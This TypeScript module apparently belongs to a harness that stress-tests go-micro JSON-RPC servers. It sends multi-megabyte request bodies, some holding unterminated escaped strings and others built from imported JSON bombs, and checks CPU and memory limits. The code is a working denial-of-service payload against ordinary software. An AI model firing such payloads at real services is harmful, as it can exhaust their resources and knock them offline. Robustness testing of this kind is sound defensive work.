import type { Attack } from "../attack.ts";
import { jsonBombs } from "../wire/element-bombs.ts";
import { goMicroHead } from "../wire/http1.ts";

const envelope = '{"method":"TargetService.Say","id":1,"params":[';
const unended = ['\\"', "\\\\", "\\u0022"].map(
  (escaped) => `{"name":"${escaped.repeat(2_000_000 / escaped.length)}`,
);

export const attack: Attack = {
  protocol: "go-micro",
  description: "json-rpc of 2 to 4 MB: JSON that takes long to read, and strings that do not end",
  bounds: { cpuMsPerMB: 150, heldPerByte: 2 },
  heapMB: 1_024,
  async run(target) {
    const whole = Object.values(jsonBombs).map((bomb) => `${bomb()}]}`);
    for (const text of [...unended, ...whole]) {
      const body = Buffer.from(envelope + text);
      const connection = await target.connect();
      await connection.write(
        goMicroHead(
          "Say",
          "Content-Type: application/json-rpc",
          `Content-Length: ${body.length}`,
          "Connection: close",
        ),
      );
      await connection.write(body, 10_000);
      await connection.closed;
    }
  },
};
